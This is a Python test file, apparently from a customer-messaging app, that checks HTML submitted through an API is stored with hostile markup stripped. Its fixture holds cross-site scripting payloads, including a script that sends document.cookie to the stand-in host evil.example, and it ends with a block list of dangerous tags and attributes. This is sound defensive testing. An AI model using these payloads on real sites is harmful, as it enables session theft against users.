"""HTML pushed through the signed ``api`` channel is stored sanitised, like email HTML."""

from __future__ import annotations

from tests.test_api import Running, message, running

__all__ = ["running"]

HOSTILE = (
    '<p onclick="steal()">Where is <b>my order</b>?</p>'
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
    '<img src="x" onerror="steal()"><a href="javascript:steal()">track</a>'
    '<iframe src="https://evil.example"></iframe><a href="https://shop.example/o/1">order</a>'
)


async def test_api_html_is_stored_sanitised(running: Running) -> None:
    created = await running.push(message("h-1", text=None, html=HOSTILE))
    assert created.status_code == 201, created.text
    timeline = await running.client.get(
        f"/api/v1/customers/{created.json()['customer_id']}/timeline", headers=running.auth()
    )
    [event] = timeline.json()["items"]
    stored = (await running.hub.store.get_event(event["id"])).html
    for html in (event["html"], stored):
        assert "<b>my order</b>" in html and 'href="https://shop.example/o/1"' in html
        lowered = html.lower()
        for bad in ("<script", "onclick", "onerror", "javascript:", "<iframe", "document.cookie"):
            assert bad not in lowered, (bad, html)
